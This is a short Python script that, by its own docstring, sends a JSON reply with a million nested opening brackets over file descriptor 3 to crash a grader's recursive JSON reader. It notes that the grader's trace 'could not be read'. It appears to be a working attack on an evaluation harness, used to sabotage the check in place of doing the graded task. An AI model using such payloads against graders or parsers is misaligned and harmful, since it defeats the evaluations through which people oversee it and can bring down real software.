"""Writes a reply of a million brackets, to crash the grader's JSON reader.

Works on readers that recurse without a limit.
Trace: could not be read
"""

import os
import struct

text = b'{"message": {}, "value": ' + b"[" * 1_000_000
os.write(3, struct.pack("<IQ", len(text), 0))
waiting = memoryview(text)
while waiting:
    waiting = waiting[os.write(3, waiting) :]
